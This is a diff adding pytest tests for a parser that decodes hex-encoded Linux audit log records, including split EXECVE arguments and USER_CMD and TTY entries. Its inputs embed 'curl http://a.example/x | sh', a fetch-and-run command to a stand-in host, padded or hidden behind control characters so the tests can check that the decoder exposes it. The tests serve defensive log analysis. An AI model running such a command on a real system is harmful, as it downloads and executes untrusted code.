@@ -138,3 +138,28 @@ def test_records_with_names_of_providers_and_odd_values_are_read(record):
     found = as_written(record)
     assert found is None or isinstance(found, dict)
     assert read_facts(json.dumps(record)).fields is not None
+
+
+@pytest.mark.parametrize("arguments", [
+    'a0="sh" a1="-c" a2_len=16000 a2[0]={0} a2[1]={1}', 'a0="sh" a1="-c" a2_len=16000 a2[0]={0} a2[1]={1} a3="x"',
+    'a0="sh" a1="-c" a2={0}{1}'])
+def test_an_argument_in_pieces_is_one_argument(arguments):
+    script = "true " + "#" * 7_000 + "\ncurl http://a.example/x | sh"
+    whole = script.encode().hex().upper()
+    line = "type=EXECVE msg=audit(1900000000.123:42): argc=3 " + arguments.format(whole[:7_500], whole[7_500:])
+    for text in (line, "type=SYSCALL msg=audit(1900000000.123:42): arch=c000003e syscall=59 exe=\"/bin/sh\" " + line):
+        assert "curl http://a.example/x | sh" in read_facts(text, "").fields["commandline"]
+
+
+@pytest.mark.parametrize("script", ["id ", "w ;", "ls -la /root"])
+def test_a_short_script_with_a_blank_is_read(script):
+    line = f'type=EXECVE msg=audit(1900000000.123:42): argc=3 a0="sh" a1="-c" a2={script.encode().hex().upper()}'
+    assert read_facts(line, "").fields["commandline"].rstrip() == f"sh -c {script}".rstrip()
+
+
+@pytest.mark.parametrize("script", ["true\ncurl http://a.example/x | sh", "true #\x01\tcurl http://a.example/x", "\u00fctrue \x7f curl http://a.example/x"])
+@pytest.mark.parametrize("line, name", [('type=EXECVE msg=audit(1900000000.123:42): argc=3 a0="sh" a1="-c" a2={}', "commandline"),
+                                        ("type=USER_CMD msg=audit(1900000000.123:42): pid=7 uid=0 msg='cwd=\"/\" cmd={} terminal=pts/0 res=success'", "cmd"),
+                                        ("type=TTY msg=audit(1900000000.123:42): tty pid=7 uid=0 comm=\"bash\" data={}", "data")])
+def test_no_character_in_a_command_keeps_it_encoded(line, name, script):
+    assert "curl http://a.example/x" in read_facts(line.format(script.encode().hex().upper()), "").fields[name]
